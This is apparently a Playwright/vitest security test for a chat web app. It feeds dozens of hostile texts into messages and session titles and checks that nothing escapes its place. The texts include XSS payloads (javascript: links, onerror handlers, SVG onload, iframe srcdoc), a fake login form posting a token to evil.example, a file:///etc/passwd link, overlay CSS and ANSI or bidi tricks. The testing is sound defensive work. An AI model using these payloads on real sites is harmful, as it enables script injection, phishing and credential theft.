/** Texts of models and people that try to change the page around them. Build the page first. */
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { usePage } from '#support/browser.ts';
import { useBuiltServer } from '#support/built-server.ts';
import { locatorsOf, visible } from '#support/page-locators.ts';

const built = useBuiltServer(undefined, { per: 'file' });
let page: Page;

usePage(
  () => built.server,
  (opened) => ({ page } = opened),
  { viewport: { width: 1440, height: 900 } },
);

const HOST = 'https://evil.example';
const RUN = 'window.hacked=1';
const COVER = 'position:fixed;inset:0;z-index:2147483647;background:red';

const LINKS = [
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](java\tscript:${RUN})`,
  `[a](data:text/html,<script>${RUN}</script>)`,
  `[a](vbscript:${RUN})`,
  `[a](blob:${HOST}/1)`,
  '[a](file:///etc/passwd)',
  `[a](//evil.example)`,
  `[https://good.example](${HOST})`,
  `[a](#/s/session_x)`,
  `[a](/api/v1/shutdown)`,
  `[a](${HOST} "title' onmouseover='${RUN}")`,
  `<${HOST}/?${'x'.repeat(3000)}>`,
  `![a](${HOST}/pixel.png)`,
  `![a](javascript:${RUN})`,
  `[![a](${HOST}/b.png)](${HOST})`,
  `[a]: ${HOST}\n\n[a] ![a]`,
];
const HTML = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${HOST}/p.png">`,
  `<iframe src="${HOST}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${HOST}"></object><embed src="${HOST}">`,
  `<style>*{display:none!important}</style>`,
  `<link rel=stylesheet href="${HOST}/a.css">`,
  `<base href="${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<form action="${HOST}"><input name=token><button>Log in</button></form>`,
  `<div style="${COVER}">a</div>`,
  `<a href="#" style="${COVER}">a</a>`,
  `<button popovertarget=x>a</button><div popover id=x>b</div>`,
  `<dialog open style="${COVER}">a</dialog>`,
  `<details open ontoggle="${RUN}"><summary>a</summary></details>`,
  `<video src="${HOST}/v.mp4" autoplay onerror="${RUN}"></video>`,
  `<div id="app">a</div><div id="prompt">b</div>`,
  `<textarea></textarea><select><option>a</select>`,
  `<template><script>${RUN}</script></template><noscript><img src=x onerror="${RUN}"></noscript>`,
  `<!-- </div></main> --></div></section></main><h1>Out</h1>`,
  `<marquee>a</marquee><blink>b</blink><plaintext>`,
];
const SVG = [
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg style="${COVER}"><rect width="9999" height="9999"/></svg>`,
  `<svg><use href="${HOST}/a.svg#x"/><image href="${HOST}/b.png"/></svg>`,
  `<svg><a href="javascript:${RUN}"><text y="20">a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
];
const FORMULAS = [
  `$$\\href{javascript:${RUN}}{a}$$`,
  `$$\\includegraphics{${HOST}/a.png}$$`,
  `$$\\htmlStyle{${COVER}}{a}$$`,
  `$$\\htmlId{app}{a}$$`,
  `$$\\rule{9999em}{9999em}$$`,
  `$$\\raisebox{500em}{a}\\kern{-500em}b$$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `$$${'{'.repeat(2000)}$$`,
];
const ANSI = [
  '\u001b[2J\u001b[1;1Hcleared',
  '\u001b]0;stolen title\u0007a',
  `\u001b]8;;javascript:${RUN}\u0007a\u001b]8;;\u0007`,
  '\u001b[31mred without an end',
];
const BIDI = [
  '\u202eesrever',
  '\u2067\u2066\u202b unclosed',
  'a\u0301\u0302\u0303'.repeat(400),
  `\`\`\`\n\u202e code\n\`\`\`\n\u2028\u2029\u0000`,
];
const TEXTS = [...LINKS, ...HTML, ...SVG, ...FORMULAS, ...ANSI, ...BIDI];

/** In the page: what a text has changed outside its place, or could be used for it. */
const damage = `(() => {
  const log = document.querySelector('[role="log"]');
  const found = [];
  if (window.hacked !== undefined) found.push('a script was run');
  if (document.querySelectorAll('#app').length !== 1) found.push('another #app');
  const active = 'script, style, link, meta, base, iframe, object, embed, form, dialog, video, audio, template, ' +
    'foreignObject, marquee, textarea, select, [popover], [popovertarget], [srcdoc], [onload], [onerror], [ontoggle]';
  for (const element of log.querySelectorAll(active)) found.push(element.outerHTML.slice(0, 200));
  for (const link of log.querySelectorAll('a[href]'))
    if (!/^(https?|mailto):$/.test(link.protocol) || link.target !== '_blank') found.push(link.outerHTML.slice(0, 200));
  for (const image of log.querySelectorAll('img'))
    if (!image.src.startsWith('blob:')) found.push(image.outerHTML.slice(0, 200));
  for (const element of log.querySelectorAll('article *'))
    if (getComputedStyle(element).position === 'fixed') found.push('fixed: ' + element.outerHTML.slice(0, 200));
  // Everything outside the conversation is where it was, and on top.
  const { left, top, right, bottom } = log.getBoundingClientRect();
  for (let x = 8; x < innerWidth; x += 90)
    for (let y = 8; y < innerHeight; y += 45)
      if ((x < left || x > right || y < top || y > bottom) && log.contains(document.elementFromPoint(x, y)))
        found.push('covered at ' + x + ' ' + y);
  return found;
})()`;

it(`${TEXTS.length} hostile texts change nothing outside their place`, async () => {
  expect(TEXTS.length).toBeGreaterThanOrEqual(60);
  const on = locatorsOf(page);
  const session = await built.newSession();
  await built.ok('POST', `/sessions/${session}/profile`, { title: 'Hostile' });
  await page.goto(`${built.server.url}/#/s/${session}`);
  await on.prompt().waitFor(visible);
  const places = () =>
    Promise.all([on.prompt(), on.button('Send'), on.link('Hostile')].map((part) => part.boundingBox()));
  const title = await page.title();
  const [{ y: promptY = 0 } = {}] = (await places()).map((box) => box ?? undefined);

  for (const [at, text] of TEXTS.entries()) {
    // The text as that of a person, as an answer, and as an answer in inline code, in a list and in a table.
    const flat = text.replaceAll(/\s+/g, ' ');
    built.base.model.enqueue({ text: `${text}\n\n- ${flat}\n\n| a |\n|---|\n| ${flat} |\n` });
    built.base.model.enqueue({ text: `The end of ${at}.` });
    await built.prompt(session, text);
    await built.prompt(session, 'Next');
    await page.getByText(`The end of ${at}.`).waitFor(visible);
    expect({ text, damage: await page.evaluate(damage) }).toEqual({ text, damage: [] });
    expect(await page.title()).toBe(title);
    expect(new URL(page.url()).hash).toBe(`#/s/${session}`);
    expect((await places())[0]?.y).toBe(promptY);
  }

  // As the title of a session, which the header, the list and the tab display.
  for (const text of [...HTML, ...ANSI, ...BIDI]) {
    await built.ok('POST', `/sessions/${session}/profile`, { title: text.slice(0, 200) });
  }
  await built.ok('POST', `/sessions/${session}/profile`, { title: 'Hostile' });
  await on.link('Hostile').waitFor(visible);
  expect(await page.evaluate(damage)).toEqual([]);
  expect((await places())[0]?.y).toBe(promptY);
});
